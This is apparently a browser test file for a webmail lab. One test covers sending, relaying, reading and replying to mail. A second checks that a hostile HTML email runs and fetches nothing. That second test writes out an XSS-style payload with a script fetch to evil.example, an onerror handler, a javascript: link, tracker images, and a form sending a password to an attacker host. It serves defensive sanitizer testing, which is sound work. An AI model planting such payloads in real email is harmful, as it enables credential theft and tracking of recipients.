// The webmail in a real browser: Debian's Chromium driven by playwright-core (never a downloaded
// browser), against the lab's two servers in memory. Screenshots go to build/screenshots/.
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import type { Page } from "playwright-core";
import { ImapClient } from "../../client/imap_client.ts";
import { Lab } from "../../lab/lab.ts";
import { toolTest } from "../_tools.ts";
import { CHROMIUM, launchChromium } from "../_browser.ts";

const SHOTS = new URL("../../build/screenshots/", import.meta.url).pathname;
const SUBJECT = "안녕하세요, 햄버거 좋아해요?";

async function logIn(page: Page, base: string, user: string, password: string): Promise<void> {
  await page.goto(base);
  await page.getByLabel("User").fill(user);
  await page.getByLabel("Password").fill(password);
  await page.getByRole("button", { name: "Log in" }).click();
  await page.getByText(/messages, \d+ unread/).waitFor();
}

toolTest(
  "webmail: alice sends bob a Korean subject with an attachment; bob reads, travels, replies",
  [CHROMIUM],
  async () => {
    await Deno.mkdir(SHOTS, { recursive: true });
    await using lab = await Lab.start({
      freePorts: true,
      storage: "memory",
      passwordIterations: 1000,
    });
    const crepes = lab.server("crepes.fr");
    const hamburger = lab.server("hamburger.edu");
    const aliceBase = `http://127.0.0.1:${crepes.ports.http}/`;
    const bobBase = `http://127.0.0.1:${hamburger.ports.http}/`;
    const browser = await launchChromium();
    try {
      const requests: string[] = [];
      const context = await browser.newContext({ acceptDownloads: true });
      context.on("request", (r) => requests.push(r.url()));
      const alice = await context.newPage();
      const bob = await context.newPage();
      await logIn(bob, bobBase, "bob", "pickles");
      await logIn(alice, aliceBase, "alice", "ketchup");
      // alice composes, with an attachment.
      await alice.getByRole("button", { name: /Compose/ }).click();
      await alice.getByRole("dialog").getByLabel("To", { exact: true }).fill("bob@hamburger.edu");
      await alice.getByRole("dialog").getByLabel("Subject", { exact: true }).fill(SUBJECT);
      await alice.getByRole("dialog").getByLabel("Text", { exact: true }).fill(
        "Bob,\n\nThe recipe is attached.\n\nAlice",
      );
      await alice.getByRole("dialog").getByLabel("Attachments", { exact: true }).setInputFiles({
        name: "crêpes.txt",
        mimeType: "text/plain",
        buffer: Buffer.from("flour, eggs, milk\n"),
      });
      await alice.screenshot({ path: `${SHOTS}compose.png` });
      await alice.getByRole("button", { name: "Send" }).click();
      await alice.getByRole("dialog").waitFor({ state: "hidden" });
      // bob's page shows it without a reload (server-sent events), unread.
      const row = bob.locator(".row.unread", { hasText: SUBJECT });
      await row.waitFor({ timeout: 10_000 });
      await bob.screenshot({ path: `${SHOTS}inbox.png` });
      // By keyboard: a row is a button, so Tab reaches it and Enter opens it.
      await row.focus();
      await bob.keyboard.press("Enter");
      await bob.locator("#headers").getByText(SUBJECT).waitFor();
      assert.match(await bob.locator("#text").textContent() ?? "", /The recipe is attached\./);
      assert.match(
        await bob.locator("#attachments").textContent() ?? "",
        /crêpes\.txt \(text\/plain/,
      );
      // The travel panel: alice's agent to crepes.fr, crepes.fr to hamburger.edu, then to bob.
      const hops = await bob.locator("#hops li").allTextContents();
      assert.equal(hops.length, 3, hops.join(" | "));
      assert.match(hops[0], /→ crepes\.fr \(ESMTPA\)/);
      assert.match(hops[1], /^crepes\.fr → hamburger\.edu \(ESMTPS?\)/); // the relay, in TLS in the lab
      assert.match(hops[2], /hamburger\.edu → bob@hamburger\.edu \(HTTP\)/);
      // Each hop's own dialog, as the servers recorded it.
      const dialogs = bob.locator("#dialogs details summary");
      await dialogs.first().waitFor();
      const roles = (await dialogs.allTextContents()).map((t) => t.split(":")[0]);
      assert.deepEqual(roles, ["http submission", "relay", "mx"]);
      await bob.locator("#dialogs details").nth(1).locator("summary").click();
      const relay = await bob.locator("#dialogs details").nth(1).locator("pre").textContent() ?? "";
      assert.match(relay, /^C: RCPT TO:<bob@hamburger\.edu>$/m);
      assert.match(relay, /^S: 250 2\.0\.0 /m);
      await bob.screenshot({ path: `${SHOTS}read.png`, fullPage: true });
      // The saved .eml is byte for byte what IMAP gives.
      const [download] = await Promise.all([
        bob.waitForEvent("download"),
        bob.getByRole("link", { name: "Save .eml" }).click(),
      ]);
      const saved = await Deno.readFile(await download.path());
      const imap = await ImapClient.connect({ hostname: "127.0.0.1", port: hamburger.ports.imap });
      await imap.login("bob", "pickles");
      await imap.select("INBOX");
      const [fetched] = await imap.fetch("1", "(UID BODY.PEEK[])");
      await imap.logout();
      assert.deepEqual(saved, fetched.sections["BODY[]"]);
      // bob replies; alice sees the reply, threaded to her message.
      await bob.getByRole("button", { name: "Reply", exact: true }).click();
      assert.equal(
        await bob.getByRole("dialog").getByLabel("To", { exact: true }).inputValue(),
        "alice@crepes.fr",
      );
      assert.equal(
        await bob.getByRole("dialog").getByLabel("Subject", { exact: true }).inputValue(),
        `Re: ${SUBJECT}`,
      );
      await bob.getByRole("dialog").getByLabel("Text", { exact: true }).fill(
        "Yes, with ketchup!" +
          await bob.getByRole("dialog").getByLabel("Text", { exact: true }).inputValue(),
      );
      await bob.getByRole("button", { name: "Send" }).click();
      const reply = alice.locator(".row.unread", { hasText: `Re: ${SUBJECT}` });
      await reply.waitFor({ timeout: 10_000 });
      await reply.click();
      const [original] = await crepes.store.list("alice", "Sent");
      const sentText = new TextDecoder().decode(
        await crepes.store.read("alice", "Sent", original.uid),
      );
      const messageId = /^Message-ID: (\S+)/m.exec(sentText)![1];
      await alice.locator("#headers").getByText(messageId).waitFor();
      assert.match(await alice.locator("#text").textContent() ?? "", /^Yes, with ketchup!/);
      assert.match(
        await alice.locator("#text").textContent() ?? "",
        /^> The recipe is attached\./m,
      );
      // Nothing left the machine, nothing came from anywhere but the two servers.
      for (const url of requests) assert.match(url, /^http:\/\/127\.0\.0\.1:\d+\//, url);
      await context.close();
    } finally {
      await browser.close();
    }
  },
);

toolTest("webmail: a hostile HTML message runs nothing and fetches nothing; the page fits 375 px", [
  CHROMIUM,
], async () => {
  await Deno.mkdir(SHOTS, { recursive: true });
  await using lab = await Lab.start({
    freePorts: true,
    storage: "memory",
    passwordIterations: 1000,
  });
  const hamburger = lab.server("hamburger.edu");
  const html =
    '<h1 id="t">Prize!</h1><script>parent.document.title="pwned";fetch("https://evil.example/s")</script>' +
    '<img src="https://tracker.example/pixel.gif" onerror="parent.document.title=\'pwned\'">' +
    "<a href=\"javascript:parent.document.title='pwned'\">claim</a>" +
    '<div style="background:url(https://tracker.example/bg.png)">styled</div>' +
    '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>' +
    '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x"></object>';
  await hamburger.store.deliver(
    "bob",
    new TextEncoder().encode(
      `From: Prize <prize@evil.example>\r\nSubject: You won\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n`,
    ),
  );
  const browser = await launchChromium();
  try {
    const context = await browser.newContext({ viewport: { width: 375, height: 800 } });
    const foreign: string[] = [];
    await context.route("**/*", (route) => {
      const url = route.request().url();
      if (/^http:\/\/127\.0\.0\.1:\d+\//.test(url)) return route.continue();
      foreign.push(url);
      return route.abort();
    });
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on("dialog", (d) => (dialogs.push(d.message()), d.dismiss()));
    await logIn(page, `http://127.0.0.1:${hamburger.ports.http}/`, "bob", "pickles");
    await page.screenshot({ path: `${SHOTS}hostile-list-375.png`, fullPage: true });
    await page.locator(".row", { hasText: "You won" }).click({ timeout: 5000 });
    const frame = page.frameLocator("#html");
    await frame.getByText("Prize!").waitFor();
    await page.getByText("Remote images are blocked.").waitFor();
    await frame.getByText("claim").click().catch(() => {}); // a javascript: link does nothing
    await page.waitForTimeout(300);
    await page.screenshot({ path: `${SHOTS}hostile-375.png`, fullPage: true });
    assert.notEqual(await page.title(), "pwned");
    assert.deepEqual(dialogs, []);
    assert.deepEqual(foreign, [], `the browser asked for ${foreign.join(", ")}`);
    const inner = await frame.locator("body").innerHTML();
    assert.doesNotMatch(
      inner,
      /<script|onerror|javascript:|<form|<iframe|<object|tracker\.example/,
    );
    // Readable on a phone: nothing wider than the screen.
    const width = await page.evaluate("document.documentElement.scrollWidth") as number;
    assert.ok(width <= 375, `the page is ${width} px wide at 375`);
    await context.close();
  } finally {
    await browser.close();
  }
});
